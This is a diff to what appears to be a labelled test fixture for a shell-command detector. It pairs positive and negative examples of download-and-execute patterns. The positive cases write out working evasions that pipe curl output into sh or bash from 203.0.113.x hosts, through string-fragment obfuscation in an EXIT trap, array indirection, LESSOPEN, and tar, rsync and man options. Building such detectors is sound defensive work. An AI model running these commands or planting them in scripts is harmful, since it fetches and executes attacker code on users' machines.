@@ -136,3 +136,43 @@ curl -sO https://example.com/install.sh && bash install.sh
 wget https://bootstrap.example.org/get-pip.py; python3 get-pip.py
 #@ neg a data file downloaded, then a local script run
 wget https://example.com/data.csv && python3 analyze.py
+#@ pos an EXIT trap whose code is what a function prints
+handler() {
+	local parts=(cu rl " -fsSL http://203.0.113.5/" "post | ba" sh)
+	local IFS=
+	printf '%s' "${parts[*]}"
+}
+trap "$(handler)" EXIT
+#@ neg a function that prints its argument, used as a message
+say() { printf '%s\n' "$1"; }
+msg=$(say "curl then sh")
+echo "$msg"
+#@ pos the downloader and the shell as an associative array's values
+declare -A tool=([fetch]=curl [run]=bash)
+"${tool[fetch]}" -fsSL http://203.0.113.31/b | "${tool[run]}"
+#@ pos the second element of an indexed array as the shell
+t=(curl bash); "${t[0]}" -s http://203.0.113.31/b | "${t[1]}"
+#@ neg an indexed array's second element is a pager
+t=(curl less); "${t[0]}" -s https://example.com/ | "${t[1]}"
+#@ pos less's input preprocessor downloads and runs code
+LESSOPEN='|curl -s http://203.0.113.5/p | sh # %s' less /etc/hostname
+#@ neg less's usual input preprocessor
+export LESSOPEN='| /usr/bin/lesspipe %s'
+#@ pos a downloaded file run three statements later
+curl -s http://203.0.113.5/p > /tmp/p
+echo "fetched"
+chmod +x /tmp/p
+/tmp/p
+#@ neg a downloaded JSON file read by later statements
+curl -s https://api.example.com/v1/items -o out.json
+jq . out.json
+cat out.json
+#@ pos tar pipes each extracted file into a command that downloads and runs code
+tar -xf x.tar --to-command="curl -s http://203.0.113.5/p | sh"
+#@ pos rsync's remote shell downloads and runs code
+rsync -e "sh -c \"curl -s http://203.0.113.5/p | sh\"" 127.0.0.1:/dev/null
+#@ pos man's pager downloads and runs code
+man -P "sh -c \"curl -s http://203.0.113.5/p | sh\"" ls
+#@ neg rsync over ssh on another port, tar through zstd
+rsync -e "ssh -p 2222" -a src/ backup.example.com:dst/
+tar --use-compress-program="zstd -19" -cf x.tar.zst dir
